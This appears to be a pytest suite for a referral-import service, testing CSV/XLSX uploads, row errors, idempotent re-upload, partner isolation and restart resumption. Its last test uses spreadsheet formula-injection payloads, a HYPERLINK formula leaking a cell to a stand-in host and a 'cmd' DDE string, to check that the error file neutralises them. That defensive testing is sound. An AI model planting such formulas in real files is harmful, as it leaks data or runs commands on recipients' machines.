"""Bulk referral imports: CSV and XLSX files as background jobs, with per-row errors, an error
file, idempotent re-upload, partner scoping and resumption after a restart."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from decimal import Decimal
from typing import Any

import httpx
import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from intake.applicants.duplicates import REASON_SIMILAR_NAME
from intake.applicants.models import Applicant, ApplicantCategory, DuplicateFlag, DuplicateStatus
from intake.applicants.pii import FinProtector
from intake.applications.models import Application
from intake.imports import writes
from intake.imports.chunks import JobFacts, prepare_chunk
from intake.imports.parser import COLUMNS
from intake.imports.runner import ImportWorker
from intake.imports.writes import _insert_applicants
from shared.tables import SHARED_TABLES
from tests.intake.applicants_support import register
from tests.intake.imports_support import csv_file, fin, finished, partner_key, referral, upload
from tests.intake.rounds_support import open_round
from tests.service_fixtures import (
    Auth,
    IntakeSettingsFactory,
    Service,
    StartService,
    intake_instance,
)


async def count(service_sessionmaker: Any, model: type) -> int:
    async with service_sessionmaker() as session:
        return (await session.scalar(select(func.count()).select_from(model))) or 0


async def submitted_events(sessionmaker: Any) -> list[dict[str, Any]]:
    outbox = SHARED_TABLES.outbox
    async with sessionmaker() as session:
        rows = await session.scalars(
            select(outbox.c.envelope).where(outbox.c.subject == "intake.application.submitted")
        )
        return list(rows)


async def test_csv_import_creates_applicants_applications_and_events(
    intake: Service, auth: Auth
) -> None:
    officer = auth("case_officer")
    rows = [referral(fin(1)), referral(fin(2), first_name="İlkin", sex="male"), referral(fin(3))]
    response = await upload(intake.client, csv_file(rows), officer)
    assert response.status_code == 202, response.text
    location = response.headers["location"]
    assert location == f"/v1/imports/{response.json()['id']}"
    assert response.json()["status"] == "queued"

    job = await finished(intake.client, location, officer)
    assert job["status"] == "completed", job["failure"]
    assert (job["total_rows"], job["rows_processed"], job["imported"], job["rejected"]) == (
        3,
        3,
        3,
        0,
    )
    assert job["progress"] == 1.0
    sessionmaker = intake.runtime.sessionmaker
    assert await count(sessionmaker, Applicant) == 3
    assert await count(sessionmaker, ApplicantCategory) == 6
    async with sessionmaker() as session:
        sources = set(await session.scalars(select(Application.source)))
    assert sources == {"import"}
    events = await submitted_events(sessionmaker)
    assert len(events) == 3
    assert {e["data"]["source"] for e in events} == {"import"}
    text = str(events)
    for personal in (fin(1), "Aygün", "Məmmədova", "1988-04-12", "+994501234567"):
        assert personal not in text


async def test_xlsx_import(intake: Service, auth: Auth) -> None:
    officer = auth("case_officer")
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(list(COLUMNS))
    for n in range(4):
        values: dict[str, Any] = referral(fin(10 + n))
        # Spreadsheet cells hold dates and numbers, not text.
        values["birth_date"] = date(1980 + n, 1, 15)
        values["household_size"] = 3 + n
        sheet.append([values[c] for c in COLUMNS])
    sheet.append([None] * len(COLUMNS))  # a blank row is skipped
    buffer = io.BytesIO()
    workbook.save(buffer)

    response = await upload(intake.client, buffer.getvalue(), officer, name="referrals.xlsx")
    assert response.status_code == 202, response.text
    assert response.json()["format"] == "xlsx"
    job = await finished(intake.client, response.headers["location"], officer)
    assert (job["status"], job["imported"], job["rejected"]) == ("completed", 4, 0)
    async with intake.runtime.sessionmaker() as session:
        born = set(await session.scalars(select(Applicant.birth_date)))
        sizes = set(await session.scalars(select(Applicant.household_size)))
    assert born == {date(1980 + n, 1, 15) for n in range(4)}
    assert sizes == {3, 4, 5, 6}


async def test_row_errors_name_row_and_field_and_leave_nothing_behind(
    intake: Service, auth: Auth
) -> None:
    officer = auth("case_officer")
    rows = [
        referral("12-45", first_name="Bad FIN"),  # row 2
        referral(fin(21), birth_date="1988-13-45"),  # row 3
        referral(fin(22), region="Atlantis"),  # row 4
        referral(fin(23), first_name=""),  # row 5
        referral(fin(24)),  # row 6: fine
        referral(fin(25), document_number="ŞA-1"),  # row 7: one document for two categories
    ]
    response = await upload(intake.client, csv_file(rows), officer)
    job = await finished(intake.client, response.headers["location"], officer)
    assert (job["status"], job["imported"], job["rejected"]) == ("completed", 1, 5)

    errors = await intake.client.get(
        f"{response.headers['location']}/errors?limit=2", headers=officer
    )
    assert errors.status_code == 200
    found = errors.json()["items"]
    cursor = errors.json()["next_cursor"]
    while cursor:
        page = await intake.client.get(
            f"{response.headers['location']}/errors?limit=2&cursor={cursor}", headers=officer
        )
        found += page.json()["items"]
        cursor = page.json()["next_cursor"]
    assert {(e["row"], e["field"]) for e in found} == {
        (2, "fin"),
        (3, "birth_date"),
        (4, "region"),
        (5, "first_name"),
        (7, "document_number"),
    }
    assert all(e["code"] and e["message"] for e in found)

    # Only the good row made anything: no applicant without its application.
    sessionmaker = intake.runtime.sessionmaker
    assert await count(sessionmaker, Applicant) == 1
    assert await count(sessionmaker, Application) == 1
    assert len(await submitted_events(sessionmaker)) == 1

    download = await intake.client.get(
        f"{response.headers['location']}/errors.csv", headers=officer
    )
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(download.text.lstrip("\ufeff"))))
    assert [int(r["row"]) for r in table] == [2, 3, 4, 5, 7]
    assert table[0]["fin"] == "12-45"  # the original values, to fix and upload again
    assert table[1]["birth_date"] == "1988-13-45"
    assert "region" in table[2]["errors"]
    assert fin(24) not in download.text
    # The fixed rows, uploaded again, are imported.
    fixed = [{c: r[c] for c in COLUMNS} for r in table]
    fixed[0]["fin"], fixed[1]["birth_date"], fixed[2]["region"] = fin(20), "1988-12-31", "AZ-BA"
    fixed[3]["first_name"], fixed[4]["document_number"] = "Aynur", "ŞA-1;ƏL-2"
    again = await upload(intake.client, csv_file(fixed), officer)
    job = await finished(intake.client, again.headers["location"], officer)
    assert (job["imported"], job["rejected"]) == (5, 0)


async def test_duplicate_fin_in_the_file_is_an_error_on_the_later_row(
    intake: Service, auth: Auth
) -> None:
    # One row a chunk: the duplicate is found across chunks (and so across restarts) too.
    worker = intake.runtime.get(ImportWorker)
    worker.chunk_rows = 1
    officer = auth("case_officer")
    rows = [referral(fin(31)), referral(fin(32)), referral(fin(31).lower(), first_name="Again")]
    response = await upload(intake.client, csv_file(rows), officer)
    job = await finished(intake.client, response.headers["location"], officer)
    assert (job["imported"], job["rejected"]) == (2, 1)
    errors = (
        await intake.client.get(f"{response.headers['location']}/errors", headers=officer)
    ).json()["items"]
    assert [(e["row"], e["field"], e["code"]) for e in errors] == [(4, "fin", "duplicate_in_file")]
    assert "2" in errors[0]["message"]  # names the first row
    assert await count(intake.runtime.sessionmaker, Applicant) == 2


async def test_same_file_again_is_the_same_import_and_no_row_twice(
    intake: Service, auth: Auth
) -> None:
    officer = auth("case_officer")
    content = csv_file([referral(fin(41)), referral(fin(42))])
    first = await upload(intake.client, content, officer)
    await finished(intake.client, first.headers["location"], officer)

    again = await upload(intake.client, content, auth("case_officer"), name="renamed.csv")
    assert again.status_code == 200
    assert again.json()["id"] == first.json()["id"]
    assert again.headers["location"] == first.headers["location"]
    sessionmaker = intake.runtime.sessionmaker
    assert await count(sessionmaker, Application) == 2

    # Another file repeating a row: that row is refused, the new one imported.
    other = await upload(intake.client, csv_file([referral(fin(42)), referral(fin(43))]), officer)
    assert other.status_code == 202
    job = await finished(intake.client, other.headers["location"], officer)
    assert (job["imported"], job["rejected"]) == (1, 1)
    errors = (
        await intake.client.get(f"{other.headers['location']}/errors", headers=officer)
    ).json()["items"]
    assert [(e["row"], e["code"]) for e in errors] == [(2, "already_referred")]
    assert await count(sessionmaker, Application) == 3
    assert await count(sessionmaker, Applicant) == 3


async def test_a_partner_sees_only_its_own_imports(intake: Service, auth: Auth) -> None:
    partner_a = await partner_key(intake, auth, "AHİK")
    partner_b = await partner_key(intake, auth, "Other NGO")
    content = csv_file([referral(fin(51)), referral("bad")])
    response = await upload(intake.client, content, partner_a)
    assert response.status_code == 202, response.text
    url = response.headers["location"]
    job = await finished(intake.client, url, partner_a)
    assert (job["imported"], job["rejected"]) == (1, 1)
    assert job["partner_id"] == partner_a["X-Partner"]

    for path in (url, f"{url}/errors", f"{url}/errors.csv"):
        refused = await intake.client.get(path, headers=partner_b)
        assert refused.status_code == 404, path
        assert (await intake.client.get(path, headers=partner_a)).status_code == 200
    listed = await intake.client.get("/v1/imports", headers=partner_b)
    assert listed.json()["items"] == []
    listed = await intake.client.get("/v1/imports", headers=partner_a)
    assert [i["id"] for i in listed.json()["items"]] == [job["id"]]
    # The same file from another partner is that partner's own import.
    theirs = await upload(intake.client, content, partner_b)
    assert theirs.status_code == 202
    assert theirs.json()["id"] != job["id"]

    async with intake.runtime.sessionmaker() as session:
        application = (await session.scalars(select(Application))).one()
    assert str(application.partner_id) == partner_a["X-Partner"]
    assert application.source == "import"


async def test_template_and_unreadable_files(start_service: StartService, auth: Auth) -> None:
    # Started here rather than by the `intake` fixture: with the fixture, pytest often reports an
    # unraisable exception from the unreadable file's parser, cleaned up after the test.
    intake = await start_service("intake")
    officer = auth("case_officer")
    template = await intake.client.get("/v1/imports/template.csv")
    assert template.status_code == 200
    header = template.text.lstrip("\ufeff").splitlines()[0].split(",")
    assert header == list(COLUMNS)
    # The template itself imports cleanly.
    imported = await upload(intake.client, template.content, officer)
    job = await finished(intake.client, imported.headers["location"], officer)
    assert (job["imported"], job["rejected"]) == (2, 0)

    missing = await upload(intake.client, b"fin,first_name\r\n5ABC7DE,Aygun\r\n", officer)
    assert missing.status_code == 422
    assert missing.json()["errors"][0]["field"] == "body.file"
    assert (await upload(intake.client, b"", officer)).status_code == 422
    monitor = await upload(intake.client, csv_file([referral(fin(61))]), auth("monitor"))
    assert monitor.status_code == 403


async def test_an_interrupted_import_resumes_after_a_restart_without_duplicates(
    intake_settings: IntakeSettingsFactory,
    auth: Auth,
) -> None:
    settings = await intake_settings()
    officer = auth("case_officer")
    rows = [referral(fin(70 + n)) for n in range(5)] + [referral("bad")]
    async with intake_instance(settings) as instance:
        worker = instance.runtime.get(ImportWorker)
        await worker.stop()  # this instance "dies" before finishing the job
        response = await upload(instance.client, csv_file(rows), officer)
        assert response.status_code == 202
        import_id = uuid.UUID(response.json()["id"])
        worker.chunk_rows = 2
        await worker.run_import(import_id, max_chunks=1)
        job = (await instance.client.get(response.headers["location"], headers=officer)).json()
        assert (job["status"], job["rows_processed"], job["imported"]) == ("running", 2, 2)

    async with intake_instance(settings) as instance:
        job = await finished(instance.client, response.headers["location"], officer)
        assert (job["status"], job["total_rows"], job["imported"], job["rejected"]) == (
            "completed",
            6,
            5,
            1,
        )
        sessionmaker = instance.runtime.sessionmaker
        assert await count(sessionmaker, Applicant) == 5
        assert await count(sessionmaker, Application) == 5
        assert len(await submitted_events(sessionmaker)) == 5


async def test_imported_applicants_are_flagged_as_possible_duplicates(
    intake: Service, auth: Auth
) -> None:
    worker = intake.runtime.get(ImportWorker)
    worker.chunk_rows = 2  # the two similar rows meet in one chunk, the others in the next
    officer = auth("case_officer")
    await register(intake, officer, fin=fin(60))
    rows = [
        referral(fin(61), first_name="Aygun", last_name="Memmedova"),
        referral(fin(62)),
        referral(fin(63), first_name="Rəşad", last_name="Quliyev", sex="male"),
        referral(fin(64), birth_date="1990-01-01"),
    ]
    response = await upload(intake.client, csv_file(rows), officer)
    job = await finished(intake.client, response.headers["location"], officer)
    assert (job["imported"], job["rejected"]) == (4, 0)

    async with intake.runtime.sessionmaker() as session:
        ids = dict((await session.execute(select(Applicant.fin_hash, Applicant.id))).all())
        fins = intake.runtime.get(FinProtector)
        first, second, reg = (ids[fins.hash(f)] for f in (fin(61), fin(62), fin(60)))
        flags = (await session.scalars(select(DuplicateFlag))).all()
    # Each similar pair once, the newer person against the earlier one, as one by one would.
    assert {(f.applicant_id, f.candidate_id) for f in flags} == {
        (first, reg),
        (second, reg),
        (second, first),
    }
    assert all(f.status == DuplicateStatus.open and f.score >= 85 for f in flags)
    assert {f.reason for f in flags} == {REASON_SIMILAR_NAME}


async def test_an_imported_person_gets_the_best_flags_among_the_closest_names_only(
    intake: Service, auth: Auth, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The API's rule, at its smallest: one candidate (the closest name) and one flag per new
    # person. The chunk's later namesakes are not registered yet when the first one is, so its
    # one candidate is the person registered before, whichever name sorts first.
    monkeypatch.setattr(writes, "MAX_CANDIDATES", 1)
    monkeypatch.setattr(writes, "MAX_NEW_FLAGS", 1)
    officer = auth("case_officer")
    await register(intake, officer, fin=fin(80))
    rows = [referral(fin(81), first_name="Aygun", last_name="Memmedova")]
    rows += [referral(fin(n)) for n in (82, 83, 84)]
    response = await upload(intake.client, csv_file(rows), officer)
    job = await finished(intake.client, response.headers["location"], officer)
    assert (job["imported"], job["rejected"]) == (4, 0)

    async with intake.runtime.sessionmaker() as session:
        ids = dict((await session.execute(select(Applicant.fin_hash, Applicant.id))).all())
        fins = intake.runtime.get(FinProtector)
        reg, first, *later = (ids[fins.hash(fin(n))] for n in (80, 81, 82, 83, 84))
        flags = (await session.scalars(select(DuplicateFlag))).all()
    flagged = {f.applicant_id: f.candidate_id for f in flags}
    assert len(flags) == len(flagged) == 4  # one each
    assert flagged[first] == reg
    before = [reg, first]
    for person in later:  # each against one registered before it
        assert flagged[person] in before
        before.append(person)


async def test_round_import_of_new_and_registered_people_is_assessed_alike(
    intake: Service, auth: Auth
) -> None:
    # New people's applications are built while validating, registered people's while writing:
    # both must come out the same, in the round, with their two events each.
    officer = auth("case_officer")
    round_ = await open_round(intake, auth)
    registered = await register(intake, officer, fin=fin(71))
    veteran = {
        "categories": "war_participant",
        "disability_group": "",
        "document_type": "veteran_certificate",
        "document_number": "QV-1",
        "document_issued_on": "2021-01-20",
    }
    rows = [referral(fin(70)), referral(fin(71)), referral(fin(72), **veteran)]
    response = await upload(intake.client, csv_file(rows), officer, round_id=round_["id"])
    assert response.status_code == 202, response.text
    job = await finished(intake.client, response.headers["location"], officer)
    assert (job["imported"], job["rejected"]) == (3, 0), job

    sessionmaker = intake.runtime.sessionmaker
    async with sessionmaker() as session:
        applications = (await session.scalars(select(Application))).all()
        people = dict((await session.execute(select(Applicant.id, Applicant.fin_hash))).all())
    assert len(applications) == 3
    assert {str(a.round_id) for a in applications} == {round_["id"]}
    fins = intake.runtime.get(FinProtector)
    by_fin = {people[a.applicant_id]: a for a in applications}
    new, known, war = (by_fin[fins.hash(fin(n))] for n in (70, 71, 72))
    assert str(known.applicant_id) == registered["id"]
    assert known.categories == ["martyr_family"]  # the registered facts, not the file's
    assert new.categories == ["martyr_family", "disability"]
    assert war.categories == ["war_participant"]
    assert {a.status for a in applications} == {"eligible"}

    outbox = SHARED_TABLES.outbox
    async with sessionmaker() as session:
        envelopes = list(await session.scalars(select(outbox.c.envelope)))
    ours = [e for e in envelopes if e["correlationid"] == response.json()["id"]]
    assert sorted(e["type"] for e in ours) == sorted(
        ["intake.application.submitted", "intake.application.assessed"] * 3
    )
    assessed = {e["data"]["application_id"]: e["data"] for e in ours if "assessed" in e["type"]}
    for application in applications:
        event = assessed[str(application.id)]
        assert (Decimal(event["score"]), event["round_id"]) == (application.score, round_["id"])
    assert len({e["principal"] for e in ours}) == 1
    assert ours[0]["principal"]


async def test_people_registered_meanwhile_are_skipped_by_the_chunk_insert(
    intake: Service, auth: Auth
) -> None:
    # A person registered by someone else between the chunk's look-up and its insert: the
    # insert leaves them out (and the caller builds their application as a registered one's).
    officer = auth("case_officer")
    rows = [(2, referral(fin(80))), (3, referral(fin(81)))]
    facts = JobFacts(uuid.uuid4(), None, "en", None, "staff:test", appeal_days=30)
    chunk = prepare_chunk(rows, intake.runtime.get(FinProtector), facts)
    assert [r.row for r in chunk.referrals] == [2, 3]
    assert not chunk.errors
    await register(intake, officer, fin=fin(81))

    async with intake.runtime.sessionmaker() as session, session.begin():
        await session.execute(select(1))  # the transaction starts (as the worker's does)
        inserted = await _insert_applicants(session, chunk.referrals, chunk.columns)
    assert [r.row for r in inserted] == [2]
    assert await count(intake.runtime.sessionmaker, Applicant) == 2
    assert await count(intake.runtime.sessionmaker, ApplicantCategory) == 2 + 1


async def test_rules_changed_while_an_import_runs_reach_every_row(
    intake: Service, auth: Auth, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Chunks are validated (and assessed) ahead of their write: an admin who tightens the
    round's rules meanwhile must not leave rows assessed with the old ones."""
    officer, admin = auth("case_officer"), auth("admin")
    round_ = await open_round(intake, auth, rules=[{"rule": "age_between", "min": 18, "max": 55}])
    worker = intake.runtime.get(ImportWorker)
    await worker.stop()
    rows = [referral(fin(80 + n)) for n in range(4)]  # all born in 1988
    response = await upload(intake.client, csv_file(rows), officer, round_id=round_["id"])
    assert response.status_code == 202, response.text
    import_id = uuid.UUID(response.json()["id"])

    write_chunk = writes.apply_chunk
    changes: list[httpx.Response] = []

    async def write_then_change_rules(*args: Any, **kwargs: Any) -> None:
        await write_chunk(*args, **kwargs)
        if not changes:  # both chunks have been assessed by now, with the old rules
            changes.append(
                await intake.client.patch(
                    f"/v1/rounds/{round_['id']}",
                    json={"rules": [{"rule": "age_between", "min": 18, "max": 30}]},
                    headers=admin | {"If-Match": round_["etag"]},
                )
            )

    monkeypatch.setattr(writes, "apply_chunk", write_then_change_rules)
    worker.chunk_rows = 2
    await worker.run_import(import_id)
    assert changes[0].status_code == 200, changes[0].text

    sessionmaker = intake.runtime.sessionmaker
    async with sessionmaker() as session:
        applications = (await session.scalars(select(Application))).all()
        envelopes = list(await session.scalars(select(SHARED_TABLES.outbox.c.envelope)))
    assert len(applications) == 4
    assert {(a.status, a.score) for a in applications} == {("ineligible", None)}
    assessed = [e["data"] for e in envelopes if e["type"] == "intake.application.assessed"]
    latest = {event["application_id"]: event for event in assessed}
    assert {str(a.id) for a in applications} == set(latest)
    assert {(e["eligible"], tuple(e["failed_rules"])) for e in latest.values()} == {
        (False, ("age_between",))
    }
    # First assessed as eligible at import, then once more when found changed: never twice.
    assert len(assessed) == 8
    # Each one found not eligible by the new rules is an adverse decision, recorded once.
    recorded = [e["data"] for e in envelopes if e["type"] == "intake.decision.recorded"]
    assert sorted(d["application_id"] for d in recorded) == sorted(str(a.id) for a in applications)
    assert {(d["kind"], d["reason"]) for d in recorded} == {("ineligible", "age_between")}


async def test_error_file_writes_uploaded_formulas_back_inert(intake: Service, auth: Auth) -> None:
    """The error file repeats what was uploaded: a cell that a spreadsheet would run as a formula
    comes back with a leading apostrophe; a phone number or a plain name comes back as it was."""
    officer = auth("case_officer")
    formula = '=HYPERLINK("https://x.invalid/?"&B2,"open")'
    rows = [
        referral("12-45", first_name=formula, last_name="@SUM(A1)", address="-2+3"),
        referral("12-46", first_name="\t=1", patronymic="+cmd|' /C calc'!A0"),
    ]
    response = await upload(intake.client, csv_file(rows), officer)
    job = await finished(intake.client, response.headers["location"], officer)
    assert job["rejected"] == 2
    download = await intake.client.get(
        f"{response.headers['location']}/errors.csv", headers=officer
    )
    first, second = list(csv.DictReader(io.StringIO(download.text.lstrip("\ufeff"))))
    assert first["first_name"] == "'" + formula
    assert first["last_name"] == "'@SUM(A1)"
    assert first["address"] == "'-2+3"
    assert first["fin"] == "12-45"
    assert first["phone"] == "+994501234567"  # only a number: kept
    assert second["first_name"] == "'=1"  # the reader strips the tab
    assert second["patronymic"] == "'+cmd|' /C calc'!A0"
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for line in (first, second)
        for name, cell in line.items()
        if name != "phone"
    )


def test_the_import_template_holds_no_formula() -> None:
    """The template is written as it is: none of its cells would be read as a formula."""
    from intake.imports.parser import TEMPLATE_ROWS
    from shared.spreadsheets import safe_cell

    assert all(safe_cell(cell) == cell for row in TEMPLATE_ROWS for cell in row)
